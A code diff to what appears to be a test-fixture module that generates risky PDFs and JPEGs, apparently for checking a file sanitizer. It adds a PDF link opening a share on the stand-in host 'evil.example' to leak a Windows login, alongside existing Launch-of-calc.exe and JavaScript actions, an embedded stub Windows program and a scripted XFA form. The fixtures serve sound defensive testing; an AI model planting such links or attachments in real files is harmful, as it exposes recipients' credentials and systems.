@@ -6,7 +6,7 @@ import io
 import pillow_heif
 from PIL import Image, ImageDraw
 from pypdf import PdfWriter
-from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, TextStringObject
 
 GPS_TAG, GPS_LATITUDE = 0x8825, 2
 
@@ -74,7 +74,9 @@ def pdf_with_link_action(action: str) -> bytes:
     writer = PdfWriter()
     page = writer.add_blank_page(width=595, height=842)
     target = "/c/windows/system32/calc.exe" if action == "/Launch" else "app.alert(1)"
-    value_key = {"/Launch": "/F", "/JavaScript": "/JS", "/URI": "/URI"}[action]
+    if action == "/GoToR":  # opening a document on another host hands it a Windows login
+        target = "\\\\evil.example\\share\\x.pdf"
+    value_key = {"/Launch": "/F", "/GoToR": "/F", "/JavaScript": "/JS", "/URI": "/URI"}[action]
     if action == "/URI":
         target = "https://example.org/"
     link = DictionaryObject(
@@ -90,4 +92,54 @@ def pdf_with_link_action(action: str) -> bytes:
     page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
     out = io.BytesIO()
     writer.write(out)
+    return out.getvalue()
+
+
+def pdf_with_annotation(subtype: str, entries: dict[str, object] | None = None) -> bytes:
+    """A page carrying one annotation of ``subtype`` (``/FileAttachment`` with an embedded file: a
+    program riding inside a scan)."""
+    writer = PdfWriter()
+    page = writer.add_blank_page(width=595, height=842)
+    annotation = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject(subtype),
+            NameObject("/Rect"): ArrayObject([]),
+        }
+    )
+    if subtype == "/FileAttachment":
+        embedded = DecodedStreamObject()
+        embedded.set_data(b"MZ\x90\x00 a Windows program")
+        spec = DictionaryObject(
+            {
+                NameObject("/Type"): NameObject("/Filespec"),
+                NameObject("/F"): TextStringObject("readme.pdf"),
+                NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)}),
+            }
+        )
+        annotation[NameObject("/FS")] = spec
+    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def pdf_with_xfa() -> bytes:
+    """A form whose XFA stream (an XML form program, scripts included) readers like Adobe run."""
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    xfa = DecodedStreamObject()
+    xfa.set_data(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
+    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
+        {NameObject("/Fields"): ArrayObject([]), NameObject("/XFA"): writer._add_object(xfa)}
+    )
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def jpeg_with_comment(comment: bytes) -> bytes:
+    """A photo whose JPEG comment segment (COM) carries text, as some cameras and editors write."""
+    out = io.BytesIO()
+    Image.new("RGB", (32, 24), (10, 20, 30)).save(out, "JPEG", comment=comment)
     return out.getvalue()
